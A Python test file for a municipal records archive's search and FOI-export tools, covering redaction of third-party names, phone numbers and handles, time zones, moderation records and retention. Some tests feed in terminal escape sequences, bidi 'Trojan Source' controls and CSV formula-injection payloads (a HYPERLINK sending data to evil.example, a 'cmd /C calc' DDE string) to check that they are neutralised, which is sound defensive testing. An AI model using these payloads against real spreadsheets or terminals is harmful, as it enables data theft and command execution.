    # Every name holds nothing: a blank --author would list every record, as if not given.
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel", "2026-11-24T18:00:00+00:00", "Avery Lee")
    _add_comment(records, "c2", "Laurel", "2026-11-24T18:01:00+00:00", "Riley Cole")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    reached: list[str] = []  # refused before the archive is fetched or searched
    monkeypatch.setattr(tasks, "_fetch_to_read", lambda *_: reached.append("fetch"))
    monkeypatch.setattr(tasks, "search_records", lambda *_, **__: reached.append("search"))
    with pytest.raises(Exit) as stopped:
        tasks.search(Context(), "", author=author)
    assert (stopped.value.code, stopped.value.message) == (
        2,
        f"records search: --author: '{author}' holds no name: it would match every record; "
        "give part of a name or an X @username, or leave --author out for every record",
    )
    assert reached == []


def test_records_search_checks_the_author_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    # The command checks what was typed, before fetching; the search takes it as checked.
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel", "2026-11-24T18:00:00+00:00", "Riley Cole")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    monkeypatch.delenv("RECORDS_REMOTE", raising=False)
    checked: list[str] = []

    def check(author: str) -> str:
        checked.append(author)
        return author

    monkeypatch.setattr(tasks, "search_author", check)
    monkeypatch.setattr("archive.index.search_author", check)
    tasks.search(Context(), "", author="riley")
    assert checked == ["riley"]
    assert capsys.readouterr().out.endswith("records search: 1 record(s).\n")


def test_the_foi_report_gives_the_history_of_a_file_named_in_capitals(site: Site) -> None:
    """An announcement's records are filed by its page's slug, which Pelican makes from the
    file name in lowercase: its history is still that of its file."""
    site.add("2026-11-20-Glenmerry-Flushing")
    as_the_cec = ["git", "-C", str(site.root), "-c", "user.name=CEC", "-c", "user.email=c@x.ca"]
    for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "Announce"]):
        subprocess.run([*as_the_cec, *command], check=True, capture_output=True)
    (revision,) = announcement_history(site.root, "2026-11-20-glenmerry-flushing")
    assert revision["note"] == "Announce"


def test_the_foi_report_gives_a_change_note_with_control_characters_as_spaces(
    site: Site,
) -> None:
    """A commit message pasted from Word keeps its manual line break (U+000B), or a carriage
    return: the history was cut in two there (its second half read as a commit of its own,
    and the export stopped), and the report would hold a character HTML forbids."""
    path = site.add("2026-11-20-flushing")
    as_the_cec = ["git", "-C", str(site.root), "-c", "user.name=CEC", "-c", "user.email=c@x.ca"]
    for command in (
        ["init", "-q", "-b", "main"],
        ["add", "."],
        ["commit", "-q", "-m", "Announce the flushing\x0bin Glenmerry \x1b[1mnow\x1b[0m"],
    ):
        subprocess.run([*as_the_cec, *command], check=True, capture_output=True)
    path.write_text(path.read_text().replace("next week", "from Monday"))
    subprocess.run([*as_the_cec, "commit", "-qam", "Give the start\rday"], check=True)
    later, first = announcement_history(site.root, "2026-11-20-flushing")
    assert first["note"] == "Announce the flushing in Glenmerry  [1mnow [0m"
    assert later["note"].split() == ["Give", "the", "start", "day"]


def test_a_severed_export_severs_the_change_notes_of_the_announcements_history(
    site: Site, tmp_path: Path
) -> None:
    """A change note is the City's record, not a notice it published: one that says who asked
    for the change, and how to reach them, names a third party as a reply does. Severed in the
    severed copy's history, and its contact details flagged in the original set; the City's
    own number in a note is the City's."""
    path = site.add("2026-11-20-flushing")
    (site.root / "policy").symlink_to(ROOT / "policy")  # the City's contacts
    as_the_cec = ["git", "-C", str(site.root), "-c", "user.name=CEC", "-c", "user.email=c@x.ca"]
    for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "Announce"]):
        subprocess.run([*as_the_cec, *command], check=True, capture_output=True)
    path.write_text(path.read_text().replace("next week", "from Monday"))
    note = "Add Laurel Crescent, as Avery Lee asked (250-555-0199); City Hall: 250-364-1262"
    subprocess.run([*as_the_cec, "commit", "-qam", note], check=True)
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00",
                 "Avery Lee", author_id="901")  # fmt: skip
    out = tmp_path / "foi"
    export(records, site.root, "FOI-2026-014", ["Laurel"], out, redact=True)
    original = (out / "report.html").read_text()
    assert note in original  # the original set gives the history as git keeps it
    commit = announcement_history(site.root, "2026-11-20-flushing")[0]["commit"]
    # (Whether the bracket is of the number is PHONE's to say.)
    flag = rf"<tr><td>commit {commit}</td><td>phone number</td><td>\(?250-555-0199</td></tr>"
    assert re.search(flag, original)
    assert f"<tr><td>commit {commit}</td><td>name</td><td>Avery Lee</td></tr>" in original
    assert "<td>250-364-1262</td>" not in original  # the City's own number
    name = "[severed: FOIPPA s.22, name of a third party]"
    phone = "[severed: FOIPPA s.22, phone number of a third party]"
    severed = _package_texts(out / "redacted")["report.html"]
    said = rf"Add Laurel Crescent, as {re.escape(name)} asked \(?{re.escape(phone)}\); City Hall: "
    assert re.search(said + "250-364-1262", severed)
    assert not re.search(r"(?i)\b(?:avery|lee)\b|0199", severed)
    assert "Announce" in severed


def test_times_are_shown_in_city_time_as_the_dates_searched_are_city_days(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A records officer reads City time: a comment made at 23:30 on Nov. 24 in Trail (07:30
    UTC on the 25th), found by `--to 2026-11-24`, is shown on the 24th, with its offset, in a
    search, the FOI report and the retention list; the archive keeps it in UTC."""
    records = tmp_path / "records"
    _add_comment(records, "summer", "Laurel in July", "2020-07-01T16:00:00+00:00")
    _add_comment(records, "late", "Laurel", "2026-11-25T07:30:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    tasks.search(Context(), "Laurel", to="2026-11-24")
    shown = capsys.readouterr().out.splitlines()
    assert [line[:25] for line in shown[:2]] == [
        "2020-07-01 09:00 -07:00  ",  # daylight saving time
        "2026-11-24 23:30 -08:00  ",
    ]
    (late,) = search(records, "Laurel", since=date_bound("2026-11-24"))
    assert late.time == "2026-11-25T07:30:00+00:00"  # kept in UTC
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-015", ["Laurel"], out)
    report = (out / "report.html").read_text()
    assert "Version 1, 2026-11-24 23:30 -08:00 (record" in report and "T07:30" not in report
    (tmp_path / "policy").mkdir()
    (tmp_path / "policy" / "retention.yml").write_text(
        "periods_days: {post: 10, comment: 10, moderation: 365}\n"
    )
    monkeypatch.setattr(tasks, "ROOT", tmp_path)
    tasks.retention(Context(), dry_run=True)
    assert capsys.readouterr().out.startswith("2020-07-01 09:00 -07:00  comment ")


def test_an_edited_comment_version_is_dated_when_it_was_edited(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """Comments made on Nov. 1 and edited today: each second version is today's record, for
    `--from`, the FOI report and retention alike. YouTube says when a comment was edited
    (`updatedAt`); Facebook does not, so its edit is dated when collect found it."""
    site.add("2026-11-21-tour", title="Tour", video=site.add_video())
    settings = site.syndicate_to(sandboxes)
    video = next(iter(sandboxes.youtube.videos))
    thread = sandboxes.youtube.add_comment(video, "Is the deck open on Sundays?", "Quinn Reyes")
    snippet = sandboxes.youtube.threads[thread]["snippet"]["topLevelComment"]["snippet"]
    snippet.update(publishedAt="2026-11-01T17:00:00Z", updatedAt="2026-11-01T17:00:00Z")
    post = next(iter(sandboxes.facebook.posts))
    comment = sandboxes.facebook.add_comment(post, "Sundays too?", "Avery Lee")
    sandboxes.facebook.comments[comment]["created_time"] = "2026-11-01T17:00:00+0000"
    collect(settings, site.content, say=lambda _: None)
    sandboxes.youtube.edit_comment(thread, "Is the deck open on Sundays? Never mind, it is.")
    sandboxes.facebook.edit_comment(comment, "Sundays too? Found it.")
    collect(settings, site.content, say=lambda _: None)
    records = site.root / "records"

    today = datetime.now(UTC) - timedelta(hours=1)
    assert [r.data["version"] for r in search(records, "Sundays", since=today)] == [2, 2]
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-016", ["Sundays"], out)
    report = (out / "report.html").read_text()
    assert report.count("Version 1, 2026-11-01 09:00 -08:00") == 2
    assert "Version 2, 2026-11-01" not in report
    policy = tmp_path / "retention.yml"
    policy.write_text("periods_days: {post: 2555, comment: 30, moderation: 365}\n")
    due = due_for_disposition(
        records, RetentionPolicy.load(policy), datetime.now(UTC) + timedelta(days=20)
    )
    # 30 days from Nov. 1 for the first versions; the edits' 30 days have only begun.
    assert [r.data["version"] for r in due if r.type == "comment"] == [1, 1]


def test_each_search_result_is_one_line_naming_who_and_where_it_is_kept(archive: Path) -> None:
    reindex(archive)
    (comment, _) = search(archive, "Laurel")
    line = comment.summary()
    assert "\n" not in line and "facebook" in line and "2026-11-20-flushing" in line
    assert "  Avery Lee: Is Laurel Crescent included?" in line
    assert line.endswith(f"({comment.key})") and comment.key.endswith(f":{comment.line}")
    decisions = [r for r in search(archive, "") if r.type == "moderation" and not r.author]
    assert decisions, "the archive holds classifications, which have no author"
    assert all("  : " not in r.summary() for r in decisions)  # no empty name before the text


def test_a_search_line_writes_out_control_characters_instead_of_sending_them(
    tmp_path: Path,
) -> None:
    # ESC [2J clears the screen, ESC ] 52 writes the clipboard, ESC [8m hides what follows
    # (\x9b is the one-byte CSI).
    text = "Laurel \x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07 ok"
    _add_comment(tmp_path, "c1", text, "2026-11-24T18:00:00+00:00", author="Ann\x1b[8m\x9b\x7f")
    (record,) = search(tmp_path, "Laurel")
    line = record.summary()
    assert line.isprintable(), repr(line)
    assert "  Ann\\x1b[8m\\x9b\\x7f: Laurel \\x1b[2J\\x1b]52;c;ZWNobyBwd25lZA==\\x07 ok  (" in line
    assert record.text == text and record.author == "Ann\x1b[8m\x9b\x7f"  # kept as written


def test_a_search_line_writes_out_the_controls_that_reorder_text(tmp_path: Path) -> None:
    # U+202E (right-to-left override) shows what follows it backwards, to the end of the line:
    # a commenter named so turns the file and line that hold the record around, and a
    # comment can pass for another ("Trojan Source"); U+2066-2069 isolate, U+202A-202D embed.
    text = "Refund \u202egnp.exe\u202c \u2067ok\u2069"
    _add_comment(tmp_path, "c1", text, "2026-11-24T18:00:00+00:00", author="Ann\u202e")
    (record,) = search(tmp_path, "Refund")
    line = record.summary()
    assert "  Ann\\u202e: Refund \\u202egnp.exe\\u202c \\u2067ok\\u2069  (" in line
    assert record.text == text and record.author == "Ann\u202e"  # kept as written


def test_an_foi_export_has_json_csv_html_and_a_manifest_that_verifies(
    archive: Path, tmp_path: Path
) -> None:
    out = tmp_path / "foi"
    summary = export(archive, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    assert summary["announcements"] == 1
    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert names == [
        "MANIFEST.sha256",
        "records.csv",
        "records.json",
        "redacted/records.csv",
        "redacted/records.json",
        "redacted/report.html",
        "report.html",
    ]
    for line in (out / "MANIFEST.sha256").read_text().splitlines():
        digest, name = line.split("  ", 1)
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest
    data = json.loads((out / "records.json").read_text())
    texts = [r["text"] for r in data["records"]]
    assert "Call me at 250-555-0199 about the leak" in texts  # the whole thread comes along
    report = (out / "report.html").read_text()
    assert report.index("Is Laurel Crescent included?") < report.index("Call me at 250-555-0199")
    assert "personal information flagged" in report and "Jordan Park" in report
    severed = (out / "redacted" / "records.json").read_text()
    assert "250-555-0199" not in severed and "Jordan Park" not in severed
    assert "[severed: FOIPPA s.22, phone number of a third party]" in severed
    assert "[severed: FOIPPA s.22, name of a third party]" in severed
    original = json.loads((out / "records.json").read_text())["records"]
    ids = {r["data"]["author_id"] for r in original if r["type"] == "comment"}
    assert ids and not any(i in severed for i in ids)  # account ids identify people too
    # The archive itself is untouched.
    assert all(chain.verify() == [] for chain in chains(archive).values())
    assert "Jordan Park" in chains(archive)["comment"].path.read_text()


def test_the_foi_report_keeps_every_x_reply_in_its_thread(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    # On X a direct reply's parent is the City's tweet, which is the post, not a comment.
    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    tweet = next(iter(sandboxes.twitter.tweets))
    question = sandboxes.twitter.add_reply(tweet, "Is Laurel Crescent included?")
    sandboxes.twitter.add_reply(question, "Yes, Laurel is on Tuesday.", sandboxes.twitter.user_id)
    collect(settings, site.content, say=lambda _: None)
    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-014", ["Laurel"], out)
    records = json.loads((out / "records.json").read_text())["records"]
    assert "@a_resident Yes, Laurel is on Tuesday." in [r["text"] for r in records]
    report = (out / "report.html").read_text()
    assert report.index("Is Laurel Crescent included?") < report.index("Yes, Laurel is on Tuesday.")
    assert 'style="margin-left: 1.5rem"' in report  # the City's answer, under the question


def test_the_foi_report_says_in_words_which_comment_a_reply_answers(tmp_path: Path) -> None:
    # Indenting a reply shows it only to the eye: a screen reader reads the words.
    records, when = tmp_path / "records", "2026-11-24T18:00:00+00:00"
    _add_comment(records, "c1", "Is Laurel Crescent included?", when, "Avery Lee")
    _add_comment(records, "c2", "Ours too, Laurel?", when, "Jordan Park", parent_id="c1")
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    report = html.unescape(re.sub(r"<[^>]+>", "", (out / "report.html").read_text()))
    assert "facebook comment c1 by Avery Lee" in report
    assert "facebook comment c2, a reply to comment c1, by Jordan Park" in report
    severed = html.unescape(re.sub(r"<[^>]+>", "", (out / "redacted" / "report.html").read_text()))
    assert "facebook comment comment-2, a reply to comment comment-1, by [severed" in severed


def test_the_foi_report_says_which_version_of_an_edited_comment_was_classified(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel included?", "2026-11-24T18:00:00+00:00", "Avery Lee")
    _add_comment(records, "c1", "Is Laurel included? And Hazelwood?", "2026-11-24T18:00:00+00:00",
                 "Avery Lee", version=2, updated="2026-11-24T19:00:00+00:00")  # fmt: skip
    policy = ModerationPolicy.load(ROOT / "policy")
    decision = classify("c1", "Is Laurel included? And Hazelwood?", "Laurel flushing", policy)
    ModerationLog(records).classified("facebook", 2, decision)
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out)
    report = html.unescape(re.sub(r"<[^>]+>", "", (out / "report.html").read_text()))
    assert "classification: keep, of version 2" in report


def _moderation_lines(report: str, text: str) -> list[str]:
    """The report's moderation paragraphs that say this."""
    return [p for p in re.findall(r'<p class="meta">Moderation, .*?</p>', report) if text in p]


def test_the_foi_export_says_what_was_decided_and_whether_the_platform_applied_it(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """A reviewer keeps a comment, a second one's hide of it is refused by Facebook, and the
    classifier hides a rude one itself: the report, the CSV and a search say keep or hide,
    what the classifier found, and whether it took effect."""
    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    post = next(iter(sandboxes.facebook.posts))
    angry = sandboxes.facebook.add_comment(post, "Flushing again? Useless council.", "Casey Demo")
    sandboxes.facebook.add_comment(post, "What a load of bullshit", "Riley Cole")
    collect(settings, site.content, say=lambda _: None)
    moderate_collected(
        settings, site.content, ModerationPolicy.load(ROOT / "policy"), say=lambda _: None
    )
    kept = "Criticism of Council is never a reason under the policy"
    assert decide(settings, site.content, f"facebook:{angry}", "keep", kept, "Reviewer A")
    sandboxes.facebook.inject("server_error", method="POST", path=angry, status=503)
    refused = "Second look: a personal attack on a councillor"
    result = decide(
        settings, site.content, f"facebook:{angry}", "hide", refused, "Reviewer B", "derogatory"
    )
    assert result.startswith("failed: ")  # the comment stayed as it was
    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-020", ["flushing"], out)

    report = (out / "report.html").read_text()
    (keep,) = _moderation_lines(report, kept)
    assert "decision: keep on version 1 (applied)" in keep and "by Reviewer A" in keep
    (hide,) = _moderation_lines(report, refused)
    assert "decision: hide on version 1 (failed: " in hide and "by Reviewer B" in hide
    (classified,) = _moderation_lines(report, "classification: hide")
    assert "(derogatory)" in classified  # the classifier's action and what it found
    (automatic,) = _moderation_lines(report, "decision: hide on version 1 (applied)")
    assert "by classifier" in automatic
    with (out / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
        texts = [row["text"] for row in csv.DictReader(handle) if row["type"] == "moderation"]
    assert f"decision: keep on version 1 (applied): {kept}" in texts
    (line,) = [r.summary(200) for r in search(site.root / "records", "Second look")]
    assert "decision: hide on version 1 (failed: " in line


def test_the_foi_report_and_csv_show_what_a_comment_showed_besides_its_text(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """A comment that is only a photo, then another photo in its place: each version shows
    its own picture (and its page on Facebook) in the report and the CSV, not empty text."""
    from tests.test_collect import fb_photo

    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    post = next(iter(sandboxes.facebook.posts))
    # On the sandbox's CDN, as Facebook's scontent.xx.fbcdn.net serves them.
    tub = sandboxes.facebook.add_picture(b"\xff\xd8\xff tub")
    sink = sandboxes.facebook.add_picture(b"\xff\xd8\xff sink")
    kept = [
        f"{hashlib.sha256(b).hexdigest()}.jpg" for b in (b"\xff\xd8\xff tub", b"\xff\xd8\xff sink")
    ]
    photo = sandboxes.facebook.add_comment(post, "", "Jordan Park", attachment=fb_photo(tub))
    collect(settings, site.content, say=lambda _: None)
    sandboxes.facebook.edit_attachment(photo, fb_photo(sink))
    collect(settings, site.content, say=lambda _: None)
    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-014", ["flushing"], out)

    report = (out / "report.html").read_text()
    first, second = report.split("Version 1, ")[1].split("Version 2, ")
    page = fb_photo(tub)["url"]
    for version, picture in ((first, html.escape(tub)), (second, html.escape(sink))):
        assert f'photo: <a href="{picture}">{picture}</a>' in version  # a signed link's &
        assert f'<a href="{page}">{page}</a>' in version
    assert html.escape(sink) not in first and html.escape(tub) not in second
    with (out / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
        shown = [row["attachment"] for row in csv.DictReader(handle) if row["type"] == "comment"]
    assert shown == [
        f"photo: {tub} {page}; kept as attachments/{kept[0]}",
        f"photo: {sink} {page}; kept as attachments/{kept[1]}",
    ]


def test_a_redacted_foi_export_severs_an_x_commenters_handle(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    """X gives who wrote a reply as an account id, unless asked for the account's name and
    @username; and a reply's text starts with the @usernames it answers. The records name X
    commenters as the people they are, and severing one takes their handle too."""
    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    x = sandboxes.twitter
    tweet = next(iter(x.tweets))
    question = x.add_reply(tweet, "Is Laurel Crescent included?", "Jordan Park")
    answer = x.add_reply(question, "Laurel was done yesterday.", "Avery Lee")
    assert x.tweets[answer]["text"].startswith("@jordan_park @CityofTrail ")
    collect(settings, site.content, say=lambda _: None)

    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    records = json.loads((out / "records.json").read_text())["records"]
    authors = {r["author"]: r["data"] for r in records if r["type"] == "comment"}
    assert {name: data["author_username"] for name, data in authors.items()} == {
        "Jordan Park": "jordan_park",
        "Avery Lee": "avery_lee",
    }
    severed = (out / "redacted" / "records.json").read_text()
    jordan = authors["Jordan Park"]["author_id"]
    assert jordan not in severed and "Jordan Park" not in severed
    assert "jordan_park" not in severed, "Jordan's X handle survives the severing"
    assert "@[severed: FOIPPA s.22, username of a third party] @CityofTrail Laurel" in severed


def test_an_account_a_comment_mentions_is_flagged_though_its_owner_never_commented(
    tmp_path: Path,
) -> None:
    """An @username in a comment leads to a person as surely as their name, also one who
    wrote nothing here (`@sam_oneil`, tagged by a neighbour); it is severed as so written,
    never as a word (`@Trail` is no reason to sever "City of Trail"). The City's own accounts
    (policy/public-contacts.yml, and those its answers came from), email addresses and a
    time said with "@" are not mentions of a third party."""
    records = tmp_path / "records"
    x = {"platform": "twitter", "post_id": "p9"}
    _add_comment(records, "t1", "@CityofTrail @sam_oneil's driveway floods too, ask him "
                 "or info@trail.ca. Thanks.@lee_k", "2026-11-24T18:00:00+00:00", "Casey D.",
                 author_id="1700", author_username="caseyd88", **x)  # fmt: skip
    _add_comment(records, "t2", "@caseyd88 @TrailWorks City of Trail crews floods it @5pm",
                 "2026-11-24T18:05:00+00:00", "City of Trail", author_id="1",
                 author_username="TrailWorks", by_city=True, parent_id="t1", **x)  # fmt: skip
    _add_comment(records, "t3", "@Trail council floods us", "2026-11-24T18:10:00+00:00",
                 "Robin Ash", author_id="1702", author_username="robin_a", **x)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-040", ["floods"], out, redact=True)
    report = (out / "report.html").read_text()
    flagged = set(re.findall(r"<td>(@?username)</td><td>([^<]*)</td>", report))
    assert flagged == {
        ("username", "caseyd88"),  # a commenter's own, also where the City's answer tags them
        ("username", "robin_a"),
        ("@username", "@sam_oneil"),
        ("@username", "@lee_k"),
        ("@username", "@Trail"),
    }, flagged
    severed = (out / "redacted" / "records.json").read_text()
    assert "sam_oneil" not in severed and "caseyd88" not in severed and "lee_k" not in severed
    assert "[severed: FOIPPA s.22, @username of a third party]'s driveway" in severed
    assert "City of Trail crews" in severed and not re.search(r"@Trail(?!\w)", severed)
    assert "@CityofTrail" in severed and "@TrailWorks" in severed and "info@trail.ca" in severed
    assert "@5pm" in severed


def test_the_foi_csv_shows_cells_that_start_like_a_formula_as_text(tmp_path: Path) -> None:
    records = tmp_path / "records"
    link = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
    command = "@SUM(1+1)*cmd|' /C calc'!A0"
    _add_comment(records, "c1", link, "2026-11-24T18:00:00+00:00", author=command)
    _add_comment(records, "c2", "-5 and\tfalling", "2026-11-24T19:00:00+00:00", author="+Sam")
    _add_comment(records, "c3", "\tTabbed", "2026-11-24T20:00:00+00:00", author="\rCarriage")
    _add_comment(records, "c4", "Is Laurel = Hazelwood?", "2026-11-24T21:00:00+00:00")
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", [""], out, redact=True)

    def rows(folder: Path) -> list[dict[str, str]]:
        with (folder / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.DictReader(handle))

    assert [(r["author"], r["text"]) for r in rows(out)] == [
        ("'" + command, "'" + link),
        ("'+Sam", "'-5 and\tfalling"),
        ("'\rCarriage", "'\tTabbed"),
        ("Quinn Reyes", "Is Laurel = Hazelwood?"),  # only the start of a cell counts
    ]
    for folder in (out, out / "redacted"):  # the severed copy too
        cells = [cell for row in rows(folder) for cell in row.values()]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The JSON and the report keep what the commenter wrote.
    data = json.loads((out / "records.json").read_text())["records"]
    assert [(r["author"], r["text"]) for r in data][:2] == [
        (command, link),
        ("+Sam", "-5 and\tfalling"),
    ]
    assert "<br>=HYPERLINK(&#34;http://evil.example/" in (out / "report.html").read_text()


def test_the_foi_csv_opens_in_a_spreadsheet_with_its_accents_and_apostrophes(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel: I’m on Côté Crescent", "2026-11-24T18:00:00+00:00",
                 "Émile Roy")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    name = "[severed: FOIPPA s.22, name of a third party]"
    for folder, author in ((out, "Émile Roy"), (out / "redacted", name)):
        csv_file = folder / "records.csv"
        # Excel reads a CSV without a byte-order mark as Windows-1252: "Ã‰mile Roy", "Iâ€™m".
        assert csv_file.read_bytes().startswith(codecs.BOM_UTF8), folder
        with csv_file.open(encoding="utf-8-sig", newline="") as handle:
            (row,) = csv.DictReader(handle)
        assert (row["type"], row["author"], row["text"]) == (
            "comment",
            author,
            "Laurel: I’m on Côté Crescent",
        )


def test_invoke_help_shows_that_also_takes_a_query_each_time() -> None:
    """invoke shows a list option as if it took no value (`-a, --also`): its help says it
    does, and invoke takes one query per --also."""
    from invoke import Collection
    from invoke.parser import Parser

    (context,) = [c for c in Collection.from_module(tasks).to_contexts() if c.name == "export"]
    flags, text = context.help_for("--also")  # the line `invoke --help export` shows
    assert re.search(r"--also[ =]QUERY", f"{flags}  {text}"), (flags, text)
    parsed = Parser([context]).parse_argv(
        ["export", "Sunningdale", "--also", "Laurel", "--also", "Bay Ave"]
    )
    assert parsed[0].args["also"].value == ["Laurel", "Bay Ave"]


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"out": "foi"}, "--request is required"),
        ({"request": "FOI-2026-014"}, "--out is required"),
        ({}, "--request and --out are required"),
    ],
    ids=["no-request", "no-out", "neither"],
)
def test_an_export_without_request_or_out_names_the_one_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: dict[str, str], message: str
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(Exit) as stopped:
        tasks.export(Context(), "Laurel", **given)
    assert (stopped.value.code, stopped.value.message) == (2, f"records export: {message}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["records"]


def test_an_export_goes_only_into_a_new_or_empty_folder_and_stops_cleanly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00")
    _add_comment(records, "c2", "Call 250-555-0199", "2026-11-24T19:00:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    out = tmp_path / "foi"
    out.mkdir()  # an empty folder will do
    tasks.export(Context(), "Laurel", request="FOI-2026-014", out=str(out), redact=True)
    first = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    with pytest.raises(Exit) as stopped:  # a second request into the same folder
        tasks.export(Context(), "", request="FOI-2026-015", out=str(out))
    assert stopped.value.code == 2
    assert stopped.value.message == (
        f"records export: {out}: is not empty; give a new or empty folder for the package"
    )
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == first
    a_file = tmp_path / "notes.txt"
    a_file.write_text("notes\n")
    with pytest.raises(Exit) as stopped:
        tasks.export(Context(), "", request="FOI-2026-015", out=str(a_file))
    assert (stopped.value.code, stopped.value.message) == (
        2,
        f"records export: {a_file}: is a file; give a new or empty folder for the package",
    )
    assert a_file.read_text() == "notes\n"
    with pytest.raises(Exit) as stopped:  # a path that cannot be a folder
        tasks.export(Context(), "", request="FOI-2026-015", out=str(a_file / "foi"))
    assert (stopped.value.code, stopped.value.message) == (
        2,
        f"records export: {a_file / 'foi'}: cannot write the package (Not a directory)",
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["foi", "notes.txt", "records"]

    def full(folder: Path) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("archive.export._manifest", full)  # a disk filling up mid-way
    with pytest.raises(Exit) as stopped:
        tasks.export(Context(), "", request="FOI-2026-015", out=str(tmp_path / "foi-2"))
    assert stopped.value.message == (
        f"records export: {tmp_path / 'foi-2'}: cannot write the package (No space left on device)"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["foi", "notes.txt", "records"]


def test_an_address_the_classifier_quoted_is_flagged_as_a_street_address(tmp_path: Path) -> None:
    records, text = tmp_path / "records", "Dave Miller, 1234 Hazelwood Drive. You know what to do."
    _add_comment(records, "c1", text, "2026-11-24T18:00:00+00:00")
    policy = ModerationPolicy.load(ROOT / "policy")
    ModerationLog(records).classified("facebook", 1, classify("c1", text, "", policy))
    moderation = next(r for r in read_records(records) if r.type == "moderation")
    found = personal_information(moderation)
    assert PersonalInfo(moderation.key, "street address", "1234 Hazelwood Drive") in found
    assert "phone number" not in {item.what for item in found}


def _exported_with_a_name_in_the_evidence(tmp_path: Path) -> Path:
    """An FOI package (severed too) whose one moderation record's off-topic evidence quotes a
    commenter's name word by word (`avery`, `lee`): the package's folder."""
    records, text = tmp_path / "records", "Call me about the leak, Avery Lee"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00",
                 author="Avery Lee")  # fmt: skip
    _add_comment(records, "c2", text, "2026-11-24T18:05:00+00:00", author="Jordan Park")
    policy = ModerationPolicy.load(ROOT / "policy")
    post = "Water main flushing on Laurel Crescent"
    ModerationLog(records).classified("facebook", 1, classify("c2", text, post, policy))
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["leak"], out, redact=True)
    return out


def test_a_severed_export_severs_a_commenters_name_among_the_words_the_classifier_found(
    tmp_path: Path,
) -> None:
    # The classifier lists a comment's words one by one (off-topic: the words it shares no
    # subject by), so a name a reply gives is quoted there as `avery` and `lee`, apart.
    out = _exported_with_a_name_in_the_evidence(tmp_path)
    original = json.loads((out / "records.json").read_text())["records"][-1]
    assert {"avery", "lee"} <= set(original["data"]["evidence"]["off_topic"]["matched"])
    severed = json.loads((out / "redacted" / "records.json").read_text())["records"][-1]
    matched = severed["data"]["evidence"]["off_topic"]["matched"]
    assert "leak" in matched  # the rest of what it found is kept
    assert matched.count("[severed: FOIPPA s.22, name of a third party]") == 2
    assert not re.search(r"\b(avery|lee)\b", (out / "redacted" / "records.json").read_text(), re.I)


def _package_texts(folder: Path) -> dict[str, str]:
    """The full text of each file an export writes into a set, the report as read (its
    markup and entities undone)."""
    report = html.unescape(re.sub(r"<[^>]+>", " ", (folder / "report.html").read_text()))
    return {
        "records.json": (folder / "records.json").read_text(encoding="utf-8"),
        "records.csv": (folder / "records.csv").read_text(encoding="utf-8-sig"),
        "report.html": report,
    }


